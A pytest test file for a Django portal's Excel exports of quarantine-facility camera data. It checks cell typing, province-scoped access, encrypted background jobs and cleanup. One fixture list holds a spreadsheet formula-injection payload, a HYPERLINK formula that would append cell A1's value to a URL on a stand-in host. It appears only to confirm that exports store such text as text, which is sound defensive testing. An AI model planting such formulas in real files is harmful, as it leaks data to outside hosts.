"""Excel exports: the CSV's rows as typed cells, text that never runs as a formula, and large
exports built in the background into an encrypted file only its owner can download (issue 12).

Every workbook is parsed back with openpyxl and compared cell by cell with the CSV of the same
export, requested by the same account.
"""

import csv
import datetime
import io
import os
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from django_q.models import Schedule
from openpyxl import load_workbook

from facilities.grants import ProvinceUserObjectPermission
from portal.models import AccountEvent
from portal.sealed_files import PIECE_SIZE, SealedWriter, UnreadableFile, read_sealed
from portal.spreadsheet import safe_cell
from reports import export_jobs, exports, xlsx
from reports.choices import ExportError, ExportStatus
from reports.models import ExportJob
from reports.schedule import PURGE_SCHEDULE_NAME
from reports.snapshot import take_snapshot
from tests import factories

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DAY = datetime.date(2021, 7, 1)
# Text a person could type that Excel would run, or show as something else, if it were guessed.
FORMULA_LIKE = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-5 camera",
    "@SUM(A1:A9)",
    "#N/A",
    "=1+1",
]


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path):
    settings.EXPORT_DIR = tmp_path / "exports"
    return settings.EXPORT_DIR


@pytest.fixture
def national():
    return factories.national_official("cuc_vien_thong")


@pytest.fixture
def other_national():
    """A second official with exactly the same role."""
    return factories.national_official("cuc_vien_thong_2")


@pytest.fixture
def hanoi_admin():
    return factories.province_user("so_tttt_hanoi", "01")


@pytest.fixture
def registry():
    checked_at = timezone.make_aware(datetime.datetime(2021, 7, 1, 16, 45))
    pv = factories.facility(
        "01", name="Khu cách ly Ký túc xá Pháp Vân", status="active", planned_cameras=4
    )
    factories.camera(pv, name="Cổng chính", connection_status="connected", health="online",
                     last_checked_at=checked_at)
    factories.camera(pv, name="Sảnh tầng 1", connection_status="eligible", health="degraded",
                     last_checked_at=checked_at)
    factories.camera(pv, name="Hành lang", connection_status="ineligible", health="offline",
                     status_reason="Độ phân giải thấp", last_error_kind="timeout")
    mt = factories.facility("01", name="Khách sạn Mường Thanh", status="preparing")
    factories.camera(mt, name="Sân", connection_status="registered")
    hcm = factories.facility("79", name="Ký túc xá Đại học Quốc gia", planned_cameras=3)
    factories.camera(hcm, name="Cổng", connection_status="connected", health="online")
    factories.camera(hcm, name="Sảnh", connection_status="connected", health="offline")
    take_snapshot(DAY)
    return {"pv": pv, "mt": mt, "hcm": hcm}


def _csv_rows(client, name, query):
    response = client.get(reverse(f"reports:{name}"), query)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def _workbook(content):
    return load_workbook(io.BytesIO(content))


def _xlsx(client, name, query):
    response = client.get(reverse(f"reports:{name}_xlsx"), query)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Cache-Control"] == "no-store"
    return response, b"".join(response.streaming_content)


def _as_csv(cell):
    """What the CSV export writes for the value of this workbook cell."""
    value = cell.value
    if value is None:
        return ""
    if isinstance(value, str):
        assert cell.data_type == "s"
        return safe_cell(value)
    if isinstance(value, datetime.datetime):
        if "hh:mm" in cell.number_format:
            return value.strftime("%Y-%m-%d %H:%M")
        return value.date().isoformat()
    if cell.number_format == "0.0%":
        return f"{100 * value:.1f}"
    assert isinstance(value, int), (cell.coordinate, value)
    return str(value)


def _sheet_as_csv(content):
    sheet = _workbook(content).active
    return [[_as_csv(cell) for cell in row] for row in sheet.iter_rows()]


def _events(**detail):
    events = AccountEvent.objects.filter(event="export").order_by("pk")
    return [
        e.detail for e in events if all(e.detail.get(k) == v for k, v in detail.items())
    ]


# --- Built in the request ---------------------------------------------------------------------

EXPORTS = [
    ("export_progress", {"date": DAY.isoformat()}),
    ("export_progress", {"start": "2021-06-30", "end": DAY.isoformat(), "province": "01"}),
    ("export_facilities", {}),
    ("export_cameras", {}),
    ("export_cameras", {"province": "79"}),
]


@pytest.mark.parametrize("name,query", EXPORTS)
def test_each_xlsx_export_holds_the_rows_of_its_csv(client, national, registry, name, query):
    client.force_login(national)
    expected = _csv_rows(client, name, query)
    response, content = _xlsx(client, name, query)
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert _sheet_as_csv(content) == expected
    assert len(expected) > 1


def test_progress_workbook_types_its_cells_and_shows_both_percentages(
    client, national, registry
):
    client.force_login(national)
    response, content = _xlsx(client, "export_progress", {"date": DAY.isoformat()})
    assert 'filename="progress-2021-07-01.xlsx"' in response["Content-Disposition"]
    sheet = _workbook(content).active
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["Ngày", "Mã tỉnh", "Tỉnh/thành phố", "Doanh nghiệp"]
    assert header[6] == "Tỷ lệ cơ sở đã kết nối (%)"
    assert header[-1] == "Tỷ lệ camera dự kiến đã kết nối (%)"
    hanoi = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "01")
    day, code, name, operator = (cell.value for cell in hanoi[:4])
    assert day == datetime.datetime(2021, 7, 1)
    assert hanoi[0].number_format == "dd/mm/yyyy"
    assert (code, name, operator) == ("01", "Hà Nội", "Viettel")
    assert hanoi[1].data_type == "s", "a code stays text: 01, not 1"
    # 4 + 2 planned cameras, 1 connected; one facility of two has a connected camera.
    assert [hanoi[4].value, hanoi[5].value] == [2, 1]
    assert hanoi[6].value == pytest.approx(0.5) and hanoi[6].number_format == "0.0%"
    assert hanoi[10].value == 1 and hanoi[10].data_type == "n"
    assert hanoi[13].value == 6
    assert hanoi[14].value == pytest.approx(1 / 6) and hanoi[14].number_format == "0.0%"
    danang = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "48")
    assert danang[6].value is None and danang[14].value is None, "nothing to divide by: empty"
    total = list(sheet.iter_rows(min_row=sheet.max_row))[0]
    assert total[2].value == "Toàn quốc"
    assert total[14].value == pytest.approx(3 / 9)


def test_header_is_bold_frozen_filtered_and_columns_have_widths(client, national, registry):
    client.force_login(national)
    _response, content = _xlsx(client, "export_cameras", {})
    sheet = _workbook(content).active
    assert sheet.title == "Camera"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])
    assert sheet.auto_filter.ref == f"A1:L{sheet.max_row}"
    widths = {col: sheet.column_dimensions[col].width for col in "ACJK"}
    assert widths == {"A": 8, "C": 36, "J": 17, "K": 14}
    header = [cell.value for cell in sheet[1]]
    # The placement review last (its label comes with the translations of the snapshots work).
    assert header[-3:-1] == ["Lần kiểm tra gần nhất", "Tỷ lệ hoạt động 7 ngày (%)"]
    gate = next(row for row in sheet.iter_rows(min_row=2) if row[3].value == "Cổng chính")
    assert gate[9].value == datetime.datetime(2021, 7, 1, 16, 45), "local time, no zone"
    assert gate[9].number_format == "dd/mm/yyyy hh:mm"


def test_headers_and_labels_follow_the_interface_language(client, national, registry):
    client.force_login(national)
    client.cookies["django_language"] = "en"
    _response, content = _xlsx(client, "export_cameras", {})
    sheet = _workbook(content).active
    assert sheet.title == "Cameras"
    assert [cell.value for cell in sheet[1]][:4] == ["Province code", "Province", "Facility",
                                                    "Camera"]
    statuses = {row[5].value for row in sheet.iter_rows(min_row=2)}
    assert "Connected" in statuses
    hallway = next(row for row in sheet.iter_rows(min_row=2) if row[3].value == "Hành lang")
    assert hallway[8].value == "No answer in time", "the error kind's label, not the key"


def test_text_that_looks_like_a_formula_stays_text(client, national, registry):
    for n, text in enumerate(FORMULA_LIKE):
        facility = factories.facility("01", name=text, focal_name=text, district=f"Quận {n}")
        factories.camera(facility, name=text, connection_status="ineligible", status_reason=text)
    client.force_login(national)
    for name in ("export_facilities", "export_cameras"):
        _response, content = _xlsx(client, name, {})
        sheet = _workbook(content).active
        texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row
                 if cell.value in FORMULA_LIKE]
        # Facility name and focal person; facility, camera name and reason (a phone field holds
        # at most 20 characters: PostgreSQL refuses the longer texts, SQLite would not).
        assert len(texts) == len(FORMULA_LIKE) * (2 if name == "export_facilities" else 3)
        assert {cell.data_type for cell in texts} == {"s"}
        assert {cell.value for cell in texts} == set(FORMULA_LIKE)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml, "no formula anywhere in the sheet"
        assert 't="e"' not in xml, "#N/A is text, not Excel's error value"


def test_characters_excel_cannot_hold_are_dropped_not_an_error():
    columns = [exports.Column("a"), exports.Column("b", exports.INTEGER)]
    target = io.BytesIO()
    assert xlsx.write_xlsx(columns, [["Cổng\x00 chính\x1b", 7]], target, title="x:y/z") == 1
    sheet = _workbook(target.getvalue()).active
    assert [sheet["A2"].value, sheet["B2"].value] == ["Cổng chính", 7]
    assert sheet.title == "x y z"


def test_province_admin_gets_only_its_province_and_is_refused_another(
    client, hanoi_admin, registry
):
    client.force_login(hanoi_admin)
    _response, content = _xlsx(client, "export_cameras", {})
    rows = _sheet_as_csv(content)
    assert {row[0] for row in rows[1:]} == {"01"}
    assert rows == _csv_rows(client, "export_cameras", {})
    for name in ("export_progress_xlsx", "export_facilities_xlsx", "export_cameras_xlsx"):
        assert client.get(reverse(f"reports:{name}"), {"province": "79"}).status_code == 403


def test_anonymous_visitors_are_sent_to_login(client, registry):
    for name in ("export_progress_xlsx", "export_facilities_xlsx", "export_cameras_xlsx",
                 "export_jobs"):
        response = client.get(reverse(f"reports:{name}"))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_each_xlsx_export_is_an_account_event_filed_under_its_province(
    client, hanoi_admin, registry
):
    client.force_login(hanoi_admin)
    _xlsx(client, "export_cameras", {"province": "01"})
    event = AccountEvent.objects.get(event="export")
    assert event.detail == {
        "export": "cameras", "format": "xlsx", "filters": {"province": "01"}, "rows": 4
    }
    assert (event.actor, event.province_id) == (hanoi_admin, factories.province("01").pk)


def test_the_progress_page_offers_excel_first_and_csv(client, national, registry):
    client.force_login(national)
    html = client.get(reverse("reports:progress")).content.decode()
    for name in ("export_progress", "export_facilities", "export_cameras"):
        assert reverse(f"reports:{name}_xlsx") in html
        assert reverse(f"reports:{name}") in html
    assert html.index(reverse("reports:export_cameras_xlsx")) < html.index(
        reverse("reports:export_cameras")
    )
    assert reverse("reports:export_jobs") in html


# --- Built in the background ------------------------------------------------------------------


@pytest.fixture
def small_threshold(settings):
    """Every export here has more rows than this: each goes to the background."""
    settings.EXPORT_SYNC_MAX_ROWS = 0
    return settings


def _request_job(client, name, query, capture, *, run=True):
    with capture(execute=run):
        response = client.get(reverse(f"reports:{name}_xlsx"), query)
    assert response.status_code == 302
    job = ExportJob.objects.order_by("-pk").first()
    assert response["Location"] == reverse("reports:export_job", args=[job.pk])
    return job


@pytest.mark.parametrize("name,query", EXPORTS[:1] + EXPORTS[2:4])
def test_a_large_export_is_built_in_the_background_and_decrypts_to_the_same_rows(
    client, national, registry, settings, django_capture_on_commit_callbacks, export_dir,
    name, query,
):
    client.force_login(national)
    _response, direct = _xlsx(client, name, query)
    settings.EXPORT_SYNC_MAX_ROWS = 0
    job = _request_job(client, name, query, django_capture_on_commit_callbacks)
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE
    assert job.owner == national
    assert job.rows_done == job.rows_total == len(_sheet_as_csv(direct)) - 1
    stored = (export_dir / job.file_name).read_bytes()
    assert not stored.startswith(b"PK"), "encrypted at rest, not a readable workbook"
    assert "Hà Nội".encode() not in stored
    response = client.get(reverse("reports:export_job_download", args=[job.pk]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == f'attachment; filename="{job.download_name}"'
    content = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(content)
    assert _sheet_as_csv(content) == _sheet_as_csv(direct)


def test_the_job_page_shows_progress_and_then_the_download(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(national)
    job = _request_job(
        client, "export_cameras", {}, django_capture_on_commit_callbacks, run=False
    )
    page = client.get(reverse("reports:export_job", args=[job.pk]))
    html = page.content.decode()
    assert reverse("reports:export_job_status", args=[job.pk]) in html
    assert "export_job.js" in html
    status = client.get(reverse("reports:export_job_status", args=[job.pk]))
    assert status["Cache-Control"] == "no-store"
    data = status.json()
    assert (data["status"], data["rows_total"], data["download"]) == ("queued", 6, None)
    with translation.override("vi"):
        assert data["label"] == gettext("Waiting")
    early = client.get(reverse("reports:export_job_download", args=[job.pk]))
    assert early.status_code == 302, "nothing to download yet: back to the job's page"
    assert early["Location"] == reverse("reports:export_job", args=[job.pk])

    export_jobs.run(job.pk)
    data = client.get(reverse("reports:export_job_status", args=[job.pk])).json()
    assert (data["status"], data["percent"], data["rows_done"]) == ("done", 100, 6)
    assert data["download"] == reverse("reports:export_job_download", args=[job.pk])
    html = client.get(reverse("reports:export_job", args=[job.pk])).content.decode()
    assert reverse("reports:export_job_download", args=[job.pk]) in html
    assert "data-status-url" not in html, "nothing left to follow"


def test_a_second_click_joins_the_job_already_waiting(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(national)
    first = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks,
                         run=False)
    again = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks,
                         run=False)
    other = _request_job(client, "export_cameras", {"province": "01"},
                         django_capture_on_commit_callbacks, run=False)
    assert again == first != other
    assert len(_events(step="queued")) == 2


def test_another_user_with_the_same_role_gets_404_for_the_job(
    client, national, other_national, registry, small_threshold,
    django_capture_on_commit_callbacks,
):
    client.force_login(national)
    job = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks)
    client.force_login(other_national)
    for name in ("export_job", "export_job_status", "export_job_download"):
        response = client.get(reverse(f"reports:{name}", args=[job.pk]))
        assert response.status_code == 404
        assert b"Cam" not in response.content
    html = client.get(reverse("reports:export_jobs")).content.decode()
    assert reverse("reports:export_job", args=[job.pk]) not in html
    assert _events(step="download") == []


def test_the_owner_lists_its_jobs_in_few_queries(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks,
    django_assert_max_num_queries,
):
    client.force_login(national)
    _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks)
    with django_assert_max_num_queries(6) as small:
        response = client.get(reverse("reports:export_jobs"))
    assert response.status_code == 200
    queries = len(small)  # now: the next request clears Django's query log
    for query in ({"province": "01"}, {"province": "79"}, {}):
        _request_job(client, "export_facilities", query, django_capture_on_commit_callbacks)
    with django_assert_max_num_queries(queries):
        response = client.get(reverse("reports:export_jobs"))
    assert len(response.context["jobs"]) == 4


def test_requesting_and_downloading_are_account_events(
    client, hanoi_admin, registry, small_threshold, django_capture_on_commit_callbacks
):
    client.force_login(hanoi_admin)
    job = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks)
    download = reverse("reports:export_job_download", args=[job.pk])
    for _time in range(2):
        b"".join(client.get(download).streaming_content)
    events = list(AccountEvent.objects.filter(event="export").order_by("pk"))
    assert [e.detail.get("step") for e in events] == ["queued", "download", "download"]
    assert events[0].detail == {
        "export": "cameras", "format": "xlsx", "filters": {"province": ""}, "rows": 4,
        "job": job.pk, "step": "queued",
    }
    assert events[1].detail == {
        "export": "cameras", "format": "xlsx", "filters": {"province": ""}, "rows": 4,
        "job": job.pk, "step": "download",
    }
    assert {e.actor for e in events} == {hanoi_admin}


def test_an_expired_job_says_so_and_its_file_is_gone(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks, export_dir
):
    client.force_login(national)
    job = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks)
    job.refresh_from_db()
    path = export_dir / job.file_name
    assert path.exists()
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now())
    response = client.get(reverse("reports:export_job_download", args=[job.pk]))
    assert response.status_code == 410
    html = response.content.decode()
    with translation.override("vi"):
        expected = gettext(
            "This export has expired: its file is deleted %(hours)d hours after it is ready. "
            "Export it again from the progress page."
        ) % {"hours": 24}
    assert expected in html
    assert not path.exists()
    job.refresh_from_db()
    assert job.status == ExportStatus.EXPIRED
    client.cookies["django_language"] = "en"
    data = client.get(reverse("reports:export_job_status", args=[job.pk])).json()
    assert (data["status"], data["download"]) == ("expired", None)
    assert data["message"].startswith("This export has expired")
    assert _events(step="download") == []


def test_the_hourly_clean_up_deletes_expired_files_old_jobs_and_strays(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks, export_dir
):
    assert Schedule.objects.filter(name=PURGE_SCHEDULE_NAME).count() == 1
    client.force_login(national)
    old = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks)
    fresh = _request_job(client, "export_facilities", {}, django_capture_on_commit_callbacks)
    old.refresh_from_db()
    fresh.refresh_from_db()
    stray = export_dir / "left-by-a-crash.sealed"
    stray.write_bytes(b"x")
    later = timezone.now() + datetime.timedelta(hours=25)
    ExportJob.objects.filter(pk=fresh.pk).update(expires_at=later + datetime.timedelta(hours=1))

    os.utime(stray, (0, 0))  # written long ago
    assert export_jobs.purge(now=later) == (1, 0, 1)
    assert not (export_dir / old.file_name).exists()
    assert (export_dir / fresh.file_name).exists()
    assert not stray.exists()
    assert ExportJob.objects.get(pk=old.pk).status == ExportStatus.EXPIRED
    # A week later the expired job's row goes too (its account events stay).
    assert export_jobs.purge(now=later + datetime.timedelta(days=8))[1] == 2
    assert not ExportJob.objects.exists()
    assert _events(step="queued")


def test_a_job_whose_owner_lost_the_grant_fails_and_writes_nothing(
    client, hanoi_admin, registry, small_threshold, django_capture_on_commit_callbacks,
    export_dir,
):
    client.force_login(hanoi_admin)
    job = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks,
                       run=False)
    ProvinceUserObjectPermission.objects.filter(user=hanoi_admin).delete()
    export_jobs.run(job.pk)
    job.refresh_from_db()
    assert (job.status, job.error, job.file_name) == (ExportStatus.FAILED, ExportError.SCOPE, "")
    assert not any(export_dir.glob("*.sealed"))
    client.cookies["django_language"] = "en"
    data = client.get(reverse("reports:export_job_status", args=[job.pk])).json()
    assert data["message"] == "Your account no longer sees these provinces."


def test_a_build_whose_worker_died_is_reported_failed_after_the_task_time_limit(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks, settings
):
    client.force_login(national)
    job = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks,
                       run=False)
    ExportJob.objects.filter(pk=job.pk).update(
        status=ExportStatus.RUNNING,
        started_at=timezone.now() - datetime.timedelta(seconds=settings.Q_CLUSTER["timeout"]),
    )
    status = client.get(reverse("reports:export_job_status", args=[job.pk])).json()
    assert status["status"] == "running", "still within the time limit"
    ExportJob.objects.filter(pk=job.pk).update(
        started_at=timezone.now() - export_jobs.stalled_after()
    )
    status = client.get(reverse("reports:export_job_status", args=[job.pk])).json()
    assert status["status"] == "failed"
    with translation.override("vi"):
        assert status["message"] == gettext("The export stopped on an unexpected error.")
    assert export_jobs.run(job.pk).endswith("not waiting, left alone")


def test_a_file_sealed_with_a_removed_key_is_reported_not_served(
    client, national, registry, small_threshold, django_capture_on_commit_callbacks, settings
):
    from cryptography.fernet import Fernet

    client.force_login(national)
    job = _request_job(client, "export_cameras", {}, django_capture_on_commit_callbacks)
    settings.CAMERA_CREDENTIALS_KEYS = [Fernet.generate_key().decode()]
    response = client.get(reverse("reports:export_job_download", args=[job.pk]))
    assert response.status_code == 410
    job.refresh_from_db()
    assert (job.status, job.error) == (ExportStatus.FAILED, ExportError.UNREADABLE)
    assert _events(step="download") == []


# --- The sealed file --------------------------------------------------------------------------


def test_a_sealed_file_reads_back_whole_and_refuses_a_cut_or_a_swap(tmp_path):
    data = bytes(range(256)) * (PIECE_SIZE // 128 + 7)  # a little over two pieces
    path = tmp_path / "f.sealed"
    with SealedWriter(path) as out:
        out.copy_from(io.BytesIO(data))
    assert out.size == len(data)
    assert b"".join(read_sealed(path)) == data
    lines = path.read_bytes().splitlines(keepends=True)
    assert len(lines) == 3
    cut = tmp_path / "cut.sealed"
    cut.write_bytes(b"".join(lines[:2]))
    with pytest.raises(UnreadableFile):
        b"".join(read_sealed(cut))
    swapped = tmp_path / "swapped.sealed"
    swapped.write_bytes(lines[1] + lines[0] + lines[2])
    with pytest.raises(UnreadableFile):
        b"".join(read_sealed(swapped))


def test_a_failed_write_leaves_no_file(tmp_path):
    path = tmp_path / "f.sealed"
    with pytest.raises(RuntimeError):
        with SealedWriter(path) as out:
            out.write(b"half")
            raise RuntimeError("stop")
    assert not path.exists()
